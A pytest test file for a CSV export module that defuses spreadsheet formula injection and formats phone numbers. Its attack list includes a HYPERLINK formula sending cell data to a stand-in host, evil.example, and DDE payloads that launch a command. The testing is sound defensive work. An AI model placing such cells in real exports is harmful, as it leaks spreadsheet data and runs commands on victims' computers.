"""CSV cells a spreadsheet cannot run (core.spreadsheet): every formula prefix made
inert, phone numbers kept readable as numbers people dial."""

import csv
import io

import pytest

from core.spreadsheet import FORMULA_PREFIXES, csv_text, inert_cell

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点这里")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_every_formula_prefix_is_covered() -> None:
    assert {attack[0] for attack in ATTACKS} == set(FORMULA_PREFIXES)


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_that_would_run_is_written_as_text(attack: str) -> None:
    cell = inert_cell(attack)
    assert cell == "'" + attack
    [[read]] = csv.reader(io.StringIO(csv_text([[attack]]).lstrip("\ufeff")))
    assert read == cell and read[0] not in FORMULA_PREFIXES


@pytest.mark.parametrize(
    ("number", "written"),
    [
        ("+8613812345678", "tel:+86-138-1234-5678"),
        ("+14155550101", "tel:+1-415-555-0101"),
        ("+86138****5678", "tel:+86138****5678"),  # masked: still recognisably a number
        ("+141****0101", "tel:+141****0101"),
    ],
)
def test_phone_numbers_stay_readable(number: str, written: str) -> None:
    assert inert_cell(number) == written


@pytest.mark.parametrize(
    "value",
    ["王秀英之子", "1200", "2026-11-28 08:15:02", "", "sms", "+ not a number", "-5"],
)
def test_plain_values_pass(value: str) -> None:
    expected = value if not value or value[0] not in FORMULA_PREFIXES else "'" + value
    assert inert_cell(value) == expected


def test_numbers_and_empty_cells() -> None:
    assert [inert_cell(v) for v in (-5, 3, 2.5, None)] == [-5, 3, 2.5, ""]


def test_the_file_starts_with_a_byte_order_mark_and_ends_rows_with_crlf() -> None:
    text = csv_text([["a", "=1"], [], ["b"]])
    assert text == "\ufeffa,'=1\r\n\r\nb\r\n"
